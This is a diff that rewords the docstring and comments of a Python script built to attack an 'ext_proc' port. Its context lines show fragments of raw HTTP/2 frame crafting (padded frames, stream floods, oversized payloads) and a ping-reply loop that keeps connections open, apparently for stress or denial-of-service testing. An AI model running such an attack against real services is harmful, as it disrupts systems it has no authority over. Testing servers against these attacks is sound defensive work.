@@ -1,4 +1,4 @@
-"""A peer of the ext_proc port that takes all it can: PORT, ATTACK and SECONDS are arguments."""
+"""Attack the ext_proc port; the arguments are PORT, ATTACK and SECONDS."""
 
 from __future__ import annotations
 
@@ -35,14 +35,14 @@ def of_stream(attack, number):
         return opened + frame(0, 0, number, b"\0\0\0\0\x32" + b"\xff" * 50)
     if attack == "streams":
         return opened + frame(0, 0, number, begun)
-    assert attack == "padded"  # which the library reads
+    assert attack == "padded"  # padded frames are read by the library
     return opened + frame(0, 0x8, number, b"\0" + begun) + frame(3, 0, number, bytes(4))
 
 
 def drain(peer):
     try:
         while data := peer.recv(1 << 16):
-            at = data.find(b"\0\0\x08\6\0")  # a ping, if it is not cut off: it needs a reply
+            at = data.find(b"\0\0\x08\6\0")  # a complete ping, which needs a reply
             if at >= 0:
                 peer.sendall(b"\0\0\x08\6\1" + data[at + 5 : at + 17])
     except OSError:
